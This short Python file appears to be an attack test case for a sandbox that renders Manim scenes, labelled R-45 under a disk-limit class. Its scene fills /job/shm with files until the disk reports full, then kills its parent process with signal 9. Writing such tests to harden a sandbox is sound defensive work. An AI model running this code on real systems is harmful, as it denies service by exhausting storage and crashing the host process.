# attack: R-45
# what: Fill scratch and end without a word.
# layer: bounded scratch
# static: rejected
# class: LIMIT_DISK
import os
import sys
import time

from manim import *


class Attack(Scene):
    def construct(self):
        import itertools
        try:
            for number in itertools.count():
                with open(f"/job/shm/{number}", "wb", buffering=0) as file:
                    for _ in range(40):
                        if file.write(bytes(1 << 18)) < 1 << 18:
                            raise OSError(28, "full")
        except OSError:
            pass
        os.kill(os.getppid(), 9)
        self.wait(0.1)
